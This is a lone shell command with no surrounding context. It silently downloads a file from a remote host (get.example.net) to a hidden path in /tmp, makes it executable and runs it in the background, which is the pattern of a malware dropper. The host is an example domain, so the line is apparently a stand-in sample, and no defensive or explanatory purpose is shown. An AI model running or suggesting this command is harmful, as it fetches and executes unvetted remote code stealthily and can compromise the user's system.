curl -so /tmp/.x https://get.example.net/x; chmod 755 /tmp/.x; /tmp/.x &
